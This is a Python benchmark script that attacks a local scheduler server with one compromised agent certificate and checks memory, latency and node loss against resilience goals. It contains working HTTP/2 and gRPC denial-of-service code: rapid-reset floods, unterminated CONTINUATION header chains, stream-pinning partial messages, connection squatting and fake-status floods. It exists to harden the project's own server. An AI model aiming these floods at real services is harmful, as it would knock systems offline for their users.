"""Attacks on a running scheduler by one compromised Agent certificate (issue 13), with the
legitimate cluster watched throughout. Not part of CI: a few minutes on a 2-core machine.

    python bench/attacks.py                       # every attack, 20 s each
    python bench/attacks.py --only rapid_reset --seconds 10

The scheduler runs as `python -m scheduler serve` with mutual TLS in its own process (RSS read
from /proc), 200 legitimate mTLS Agents report every second (`scheduler.sim.simulator`, their own
process), and a Controller here calls ListNodes twice a second and watches for LOST events.
Each attack runs in a child process (`python bench/attacks.py attacker KIND ...`, plain
asyncio and h2 on raw TLS sockets) with the certificate of node `evil-r`, from its own address
(127.0.0.2; the legitimate cluster connects from 127.0.0.1):

  rapid_reset       HEADERS (JoinCluster) + RST_STREAM pairs as fast as possible; reconnect
  partial_messages  2 connections x 100 streams, each sending 4 MiB - 1 of a 4 MiB message
  continuation      200 connections, each a header block of 63 CONTINUATION frames never ended
  idle_connections  thousands of TCP connections that never start TLS, plus handshakes with a
                    certificate from another CA, in a loop
  unknown_flood     join from a new port again and again, each status listing 1,000 instance
                    ids nobody placed

Per attack it prints one JSON line: RSS growth during the attack (peak) and 10 s after it
ended, the legitimate ListNodes p99 during it, how many fresh Controller connections (one a
second) were served, and LOST events of legitimate nodes. Goals: growth <= 64 MB during, <= 16
MB 10 s after, p99 <= 250 ms, 0 LOST, every new connection served. The last line is one JSON
object with everything.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import random
import ssl
import statistics
import struct
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))  # run from a checkout: scheduler, bench

import h2.config  # noqa: E402
import h2.connection  # noqa: E402
import h2.errors  # noqa: E402
import h2.events  # noqa: E402
import h2.exceptions  # noqa: E402
import h2.settings  # noqa: E402
from hyperframe.frame import ContinuationFrame, HeadersFrame  # noqa: E402

from bench.run import Profiler, SchedulerProcess, ensure_pki, rss_kib, say  # noqa: E402
from scheduler.sim.simulator import AgentProcesses, node_ids, raise_fd_limit  # noqa: E402

ATTACKS = ("rapid_reset", "partial_messages", "continuation", "idle_connections", "unknown_flood")
LEGIT_AGENTS = 200
ATTACKER = "evil-r"  # the compromised node's id
ATTACKER_ADDRESS = "127.0.0.2"  # and its own address: the legitimate cluster is on 127.0.0.1
LIST_EVERY = 0.5  # s between the Controller's ListNodes calls
PROBE_EVERY = 1.0  # s between fresh Controller connections
SAMPLE_EVERY = 0.25  # s between RSS samples
SETTLE = 10.0  # s after an attack before its "after" RSS is read
CALL_TIMEOUT = 5.0  # s: a ListNodes slower than this counts as failed
GOALS = {"rss_growth_during_mb": 64, "rss_growth_after_mb": 16, "listnodes_p99_ms": 250}
JOIN = "/scheduler.agent.LifecycleService/JoinCluster"
MIB = 1 << 20


# --- the attacker (a child process) -----------------------------------------------------------


def agent_context(pki: Path, node_id: str = ATTACKER) -> ssl.SSLContext:
    from scheduler import pki as pki_module
    from scheduler import security

    paths = pki_module.PkiPaths.load(pki)
    pair = paths.agent(node_id)
    return security.client_ssl_context(paths.ca, pair.cert, pair.key)


class RawH2:
    """One HTTP/2 connection spoken frame by frame over TLS (what gRPC libraries never send)."""

    def __init__(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, port: int
    ) -> None:
        self.reader, self.writer, self.port = reader, writer, port
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.closed = asyncio.Event()
        self.goaways = 0
        self.answered: set[int] = set()  # streams the server ended or reset

    @classmethod
    async def open(cls, port: int, context: ssl.SSLContext) -> RawH2:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(
                "127.0.0.1",
                port,
                ssl=context,
                server_hostname="localhost",
                local_addr=(ATTACKER_ADDRESS, 0),
            ),
            15,
        )
        connection = cls(reader, writer, port)
        connection.h2.initiate_connection()
        connection.h2.remote_settings._settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = (
            __import__("collections").deque([2**31 - 1])
        )  # an attacker ignores the limit
        writer.write(connection.h2.data_to_send())
        asyncio.ensure_future(connection._read())
        return connection

    async def _read(self) -> None:
        try:
            while data := await self.reader.read(65536):
                try:
                    events = self.h2.receive_data(data)
                except h2.exceptions.ProtocolError:
                    break
                for event in events:
                    if isinstance(event, h2.events.ConnectionTerminated):
                        self.goaways += 1
                    elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                        self.answered.add(event.stream_id)
                    elif isinstance(event, h2.events.DataReceived):
                        self.h2.acknowledge_received_data(
                            event.flow_controlled_length, event.stream_id
                        )
                self.send()
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError):
            pass
        finally:
            self.closed.set()
            self.writer.close()

    def headers(self, path: str = JOIN) -> list[tuple[str, str]]:
        return [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", path),
            (":authority", f"127.0.0.1:{self.port}"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]

    def send(self) -> None:
        data = self.h2.data_to_send()
        if data and not self.writer.is_closing():
            self.writer.write(data)

    async def drain(self) -> None:
        with contextlib.suppress(OSError, ConnectionError):
            await self.writer.drain()


async def reconnecting(port: int, context: ssl.SSLContext, stop: float, counts: dict, use) -> None:
    """Open a connection, run `use(connection)` until it closes, again until `stop`."""
    while time.monotonic() < stop:
        try:
            connection = await RawH2.open(port, context)
        except (TimeoutError, OSError, ssl.SSLError):
            counts["connect_failures"] = counts.get("connect_failures", 0) + 1
            await asyncio.sleep(0.05)
            continue
        counts["connections"] = counts.get("connections", 0) + 1
        try:
            await use(connection, stop)
        except (OSError, ssl.SSLError, h2.exceptions.ProtocolError, AssertionError):
            pass
        counts["goaways"] = counts.get("goaways", 0) + connection.goaways
        connection.writer.close()


async def rapid_reset(port: int, pki: Path, seconds: float) -> dict:
    context, counts = agent_context(pki), {"pairs": 0}

    async def use(connection: RawH2, stop: float) -> None:
        while not connection.closed.is_set() and time.monotonic() < stop:
            for _ in range(50):
                stream_id = connection.h2.get_next_available_stream_id()
                connection.h2.send_headers(stream_id, connection.headers())
                connection.h2.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
            connection.send()
            counts["pairs"] += 50
            await connection.drain()
            await asyncio.sleep(0)  # let the reader see a GOAWAY or the close

    await reconnecting(port, context, time.monotonic() + seconds, counts, use)
    return counts


async def partial_messages(port: int, pki: Path, seconds: float) -> dict:
    context, counts = agent_context(pki), {"streams": 0, "bytes_sent": 0}
    announced = 4 * MIB

    async def use(connection: RawH2, stop: float) -> None:
        left: dict[int, int] = {}  # stream id -> bytes of its message still to send
        while not connection.closed.is_set() and time.monotonic() < stop:
            for stream_id in [s for s in left if s in connection.answered]:
                del left[stream_id]  # answered (DEADLINE_EXCEEDED): pin another one
            while len(left) < 100:
                stream_id = connection.h2.get_next_available_stream_id()
                connection.h2.send_headers(stream_id, connection.headers())
                connection.h2.send_data(stream_id, struct.pack(">?I", False, announced))
                left[stream_id] = announced - 1
                counts["streams"] += 1
            for stream_id, remaining in list(left.items()):
                room = min(
                    remaining,
                    connection.h2.local_flow_control_window(stream_id),
                    connection.h2.max_outbound_frame_size,
                )
                if room > 0:
                    connection.h2.send_data(stream_id, b"x" * room)
                    left[stream_id] = remaining - room
                    counts["bytes_sent"] += room
            connection.send()
            await connection.drain()
            await asyncio.sleep(0.05)

    stop = time.monotonic() + seconds
    await asyncio.gather(*(reconnecting(port, context, stop, counts, use) for _ in range(2)))
    return counts


async def continuation(port: int, pki: Path, seconds: float) -> dict:
    context, counts = agent_context(pki), {"header_blocks": 0}

    async def use(connection: RawH2, stop: float) -> None:
        stream_id = connection.h2.get_next_available_stream_id()
        block = connection.h2.encoder.encode(connection.headers())
        frames = [HeadersFrame(stream_id, block)] + [
            ContinuationFrame(stream_id, b"\x40\x01x\x00" * 4096) for _ in range(63)
        ]
        connection.writer.write(b"".join(frame.serialize() for frame in frames))
        counts["header_blocks"] += 1
        await connection.drain()
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(connection.closed.wait(), max(0.0, stop - time.monotonic()))

    stop = time.monotonic() + seconds
    await asyncio.gather(*(reconnecting(port, context, stop, counts, use) for _ in range(200)))
    return counts


async def idle_connections(port: int, pki: Path, seconds: float, other_ca: Path) -> dict:
    """Connections that never start TLS (as many as the attacker can open), and handshakes with
    a certificate the cluster CA never signed, in a loop."""
    counts = {"tcp_opened": 0, "tcp_closed_by_server": 0, "bad_handshakes": 0}
    stop = time.monotonic() + seconds
    bad = agent_context(other_ca)

    async def squat() -> None:
        while time.monotonic() < stop:
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", port, local_addr=(ATTACKER_ADDRESS, 0)
                )
            except OSError:
                await asyncio.sleep(0.1)
                continue
            counts["tcp_opened"] += 1
            with contextlib.suppress(asyncio.TimeoutError, OSError):
                if await asyncio.wait_for(reader.read(1), stop - time.monotonic()) == b"":
                    counts["tcp_closed_by_server"] += 1
            writer.close()

    async def bad_handshakes() -> None:
        while time.monotonic() < stop:
            with contextlib.suppress(OSError, ssl.SSLError, asyncio.TimeoutError):
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(
                        "127.0.0.1",
                        port,
                        ssl=bad,
                        server_hostname="localhost",
                        local_addr=(ATTACKER_ADDRESS, 0),
                    ),
                    5,
                )
                await asyncio.wait_for(reader.read(1), 5)
                writer.close()
            counts["bad_handshakes"] += 1

    await asyncio.gather(*(squat() for _ in range(3000)), *(bad_handshakes() for _ in range(4)))
    return counts


async def unknown_flood(port: int, pki: Path, seconds: float) -> dict:
    from grpclib.client import Channel
    from grpclib.exceptions import GRPCError, StreamTerminatedError

    from scheduler._proto import agent_grpc, agent_pb2

    class FromAttacker(Channel):
        """grpclib's channel, connecting from the attacker's own address."""

        async def _create_connection(self):
            _, protocol = await self._loop.create_connection(
                self._protocol_factory,
                self._host,
                self._port,
                ssl=self._ssl,
                local_addr=(ATTACKER_ADDRESS, 0),
            )
            return protocol

    counts = {"joins": 0, "statuses": 0, "errors": 0}
    channel = FromAttacker("127.0.0.1", port, ssl=agent_context(pki))
    lifecycle = agent_grpc.LifecycleServiceStub(channel)
    statuses = agent_grpc.StatusUpdateServiceStub(channel)
    stop = time.monotonic() + seconds
    number = 0
    while time.monotonic() < stop:
        try:
            await lifecycle.JoinCluster(
                agent_pb2.ConnectionRequest(id=ATTACKER, port=random.randint(1024, 65535)),
                timeout=5,
            )
            counts["joins"] += 1
            async with statuses.UpdateNodeStatus.open(timeout=5) as stream:
                for _ in range(20):  # the status burst; then rejoin from a new port
                    message = agent_pb2.NodeStatus(id=ATTACKER)
                    message.memory.total, message.memory.free = 16 << 30, 8 << 30
                    for _ in range(1000):
                        number += 1
                        message.instances.add(instance_id=f"fake-{number}", code=1)
                    await stream.send_message(message)
                    counts["statuses"] += 1
                await stream.cancel()
        except (TimeoutError, GRPCError, StreamTerminatedError, OSError):
            counts["errors"] += 1
            await asyncio.sleep(0.01)
    channel.close()
    return counts


async def attacker(kind: str, port: int, pki: Path, seconds: float, other_ca: Path) -> dict:
    raise_fd_limit()
    if kind == "idle_connections":
        return await idle_connections(port, pki, seconds, other_ca)
    return await globals()[kind](port, pki, seconds)


# --- the legitimate cluster, watched ---------------------------------------------------------


class Watch:
    """The Controller's view while attacks run: ListNodes latencies, fresh connections, LOST."""

    def __init__(self, port: int, pki: Path, scheduler_pid: int) -> None:
        from scheduler.sim.sim_controller import SimController

        self.port, self.pki, self.pid = port, pki, scheduler_pid
        self.controller = SimController(("127.0.0.1", port), pki=pki)
        self.calls: list[tuple[float, float | None]] = []  # (start, latency s or None: failed)
        self.probes: list[tuple[float, bool]] = []  # (start, served)
        self.rss: list[tuple[float, int]] = []  # (time, KiB)
        self.lost: list[str] = []
        self.instance_events = 0
        self._tasks: list[asyncio.Task] = []

    def start(self) -> None:
        self._tasks = [
            asyncio.ensure_future(task())
            for task in (self._list, self._probe, self._sample, self._watch)
        ]

    async def close(self) -> None:
        for task in self._tasks:
            task.cancel()
        for task in self._tasks:
            with contextlib.suppress(BaseException):
                await task
        self.controller.close()

    async def _list(self) -> None:
        while True:
            started = time.monotonic()
            try:
                await asyncio.wait_for(self.controller.list_nodes(), CALL_TIMEOUT)
                self.calls.append((started, time.monotonic() - started))
            except Exception:  # noqa: BLE001 - any failure is a failed call
                self.calls.append((started, None))
            await asyncio.sleep(max(0.0, LIST_EVERY - (time.monotonic() - started)))

    async def _probe(self) -> None:
        from scheduler.sim.sim_controller import SimController

        while True:
            started = time.monotonic()
            fresh = SimController(("127.0.0.1", self.port), pki=self.pki)
            try:
                await asyncio.wait_for(fresh.list_nodes(), CALL_TIMEOUT)
                self.probes.append((started, True))
            except Exception:  # noqa: BLE001
                self.probes.append((started, False))
            finally:
                fresh.close()
            await asyncio.sleep(max(0.0, PROBE_EVERY - (time.monotonic() - started)))

    async def _sample(self) -> None:
        while True:
            self.rss.append((time.monotonic(), rss_kib(self.pid)))
            await asyncio.sleep(SAMPLE_EVERY)

    async def _watch(self) -> None:
        while True:
            with contextlib.suppress(Exception):
                async for _, event in self.controller.watch():
                    kind = event.WhichOneof("event")
                    if (
                        kind == "node"
                        and event.node.kind == 3
                        and event.node.node.id.startswith("legit-")
                    ):
                        self.lost.append(event.node.node.id)
                    elif kind == "instance":
                        self.instance_events += 1
            await asyncio.sleep(0.5)

    def rss_between(self, start: float, end: float) -> list[int]:
        return [kib for at, kib in self.rss if start <= at <= end]


def p99(values: list[float]) -> float | None:
    if not values:
        return None
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(0.99 * len(ordered)))]


async def run_attack(
    kind: str,
    watch: Watch,
    scheduler: SchedulerProcess,
    pki: Path,
    other_ca: Path,
    seconds: float,
    workdir: Path,
    profiler: Profiler,
) -> dict:
    await asyncio.sleep(3)
    now = time.monotonic()
    baseline = statistics.median(watch.rss_between(now - 3, now))
    lost_before, events_before = len(watch.lost), watch.instance_events
    log_before = scheduler.log.stat().st_size
    store = [
        scheduler.workdir / "attacks-data" / name for name in ("state.sqlite3", "state.sqlite3-wal")
    ]
    store_before = sum(path.stat().st_size for path in store if path.exists())
    say(f"{kind}: baseline RSS {baseline / 1024:.0f} MB, attacking for {seconds:g} s")
    started = time.monotonic()
    child = await asyncio.create_subprocess_exec(
        sys.executable,
        str(Path(__file__)),
        "attacker",
        kind,
        "--port",
        str(scheduler.port),
        "--pki",
        str(pki),
        "--other-ca",
        str(other_ca),
        "--seconds",
        str(seconds),
        stdout=asyncio.subprocess.PIPE,
        stderr=open(workdir / f"attacker-{kind}.log", "wb"),
    )
    async with profiler.window(f"attack-{kind}", scheduler.pid, seconds):
        out, _ = await child.communicate()
    ended = time.monotonic()
    attacker_counts = json.loads(out.decode().strip().splitlines()[-1]) if out.strip() else {}
    await asyncio.sleep(SETTLE)
    during = watch.rss_between(started, ended + 1)
    after = watch.rss_between(time.monotonic() - 1, time.monotonic())
    latencies = [latency for at, latency in watch.calls if started <= at <= ended and latency]
    failed = [at for at, latency in watch.calls if started <= at <= ended and latency is None]
    probes = [served for at, served in watch.probes if started <= at <= ended]
    log_lines = scheduler.log.read_bytes()[log_before:].decode(errors="replace").splitlines()
    result = {
        "attack": kind,
        "seconds": round(ended - started, 1),
        "rss_baseline_mb": round(baseline / 1024, 1),
        "rss_growth_during_mb": round((max(during) - baseline) / 1024, 1),
        "rss_growth_after_mb": round((statistics.median(after) - baseline) / 1024, 1),
        "listnodes_p99_ms": round(p99(latencies) * 1000, 1) if latencies else None,
        "listnodes_calls": len(latencies),
        "listnodes_failed": len(failed),
        "new_connections": {"tried": len(probes), "served": sum(probes)},
        "lost": len(watch.lost) - lost_before,
        "instance_events": watch.instance_events - events_before,
        "scheduler_log": {
            "lines": len(log_lines),
            "warnings": sum(" WARNING " in line for line in log_lines),
            "bytes": sum(len(line) + 1 for line in log_lines),
        },
        "store_growth_kb": round(
            (sum(p.stat().st_size for p in store if p.exists()) - store_before) / 1024, 1
        ),
        "attacker": attacker_counts,
    }
    result["goals_met"] = goals_met(result)
    return result


def goals_met(result: dict) -> bool:
    p99_ms = result["listnodes_p99_ms"]
    return (
        result["rss_growth_during_mb"] <= GOALS["rss_growth_during_mb"]
        and result["rss_growth_after_mb"] <= GOALS["rss_growth_after_mb"]
        and p99_ms is not None
        and p99_ms <= GOALS["listnodes_p99_ms"]
        and result["listnodes_failed"] == 0
        and result["lost"] == 0
        and result["new_connections"]["served"] == result["new_connections"]["tried"]
    )


async def main(args: argparse.Namespace) -> dict:
    raise_fd_limit()
    only = args.only.split(",") if args.only else list(ATTACKS)
    unknown = set(only) - set(ATTACKS)
    if unknown:
        raise SystemExit(f"unknown attacks {sorted(unknown)}; choose from {ATTACKS}")
    workdir = Path(tempfile.mkdtemp(prefix="orka-attacks-"))
    profiler = Profiler(Path(args.profile) if args.profile else None)
    legit = node_ids(LEGIT_AGENTS, "legit")
    pki = ensure_pki(Path(args.pki_cache), legit + [ATTACKER])
    from scheduler import pki as pki_module

    other_ca = workdir / "other-ca"
    pki_module.init_pki(other_ca, agents=[ATTACKER])
    say(
        f"attacks on orka-scheduler: logs in {workdir}, {os.cpu_count()} cores, load "
        f"{os.getloadavg()[0]:.2f}"
    )
    results = []
    async with SchedulerProcess(workdir, "attacks", pki=pki) as scheduler:
        async with AgentProcesses(
            LEGIT_AGENTS,
            scheduler.address,
            rate=1.0,
            prefix="legit",
            pki=pki,
            log_file=workdir / "agents.log",
        ) as fleet:
            while (await fleet.stats())["streaming"] < LEGIT_AGENTS:
                await asyncio.sleep(0.5)
            say(f"{LEGIT_AGENTS} legitimate Agents streaming")
            watch = Watch(scheduler.port, pki, scheduler.pid)
            watch.start()
            try:
                await asyncio.sleep(5)
                for kind in only:
                    result = await run_attack(
                        kind, watch, scheduler, pki, other_ca, args.seconds, workdir, profiler
                    )
                    results.append(result)
                    print(json.dumps(result), flush=True)
            finally:
                await watch.close()
    summary = {
        "attacks": results,
        "all_goals_met": all(r["goals_met"] for r in results),
        "goals": GOALS,
        "legit_agents": LEGIT_AGENTS,
        "seconds_each": args.seconds,
    }
    print(json.dumps(summary), flush=True)
    return summary


def cli(argv: list[str] | None = None) -> None:
    argv = sys.argv[1:] if argv is None else argv
    if argv[:1] == ["attacker"]:
        parser = argparse.ArgumentParser(prog="attacks.py attacker")
        parser.add_argument("kind", choices=ATTACKS)
        parser.add_argument("--port", type=int, required=True)
        parser.add_argument("--pki", type=Path, required=True)
        parser.add_argument("--other-ca", type=Path, required=True)
        parser.add_argument("--seconds", type=float, default=20.0)
        args = parser.parse_args(argv[1:])
        counts = asyncio.run(attacker(args.kind, args.port, args.pki, args.seconds, args.other_ca))
        print(json.dumps(counts), flush=True)
        return
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--only", metavar="ATTACKS", help=f"comma-separated subset of {ATTACKS}")
    parser.add_argument("--seconds", type=float, default=20.0, help="length of each attack")
    parser.add_argument(
        "--pki-cache",
        metavar="DIR",
        default=str(Path(tempfile.gettempdir()) / "orka-bench-pki"),
        help="development PKI reused between runs (agent certificates)",
    )
    parser.add_argument(
        "--profile", metavar="DIR", help="record py-spy stacks of the scheduler during each attack"
    )
    asyncio.run(main(parser.parse_args(argv)))


if __name__ == "__main__":
    cli()
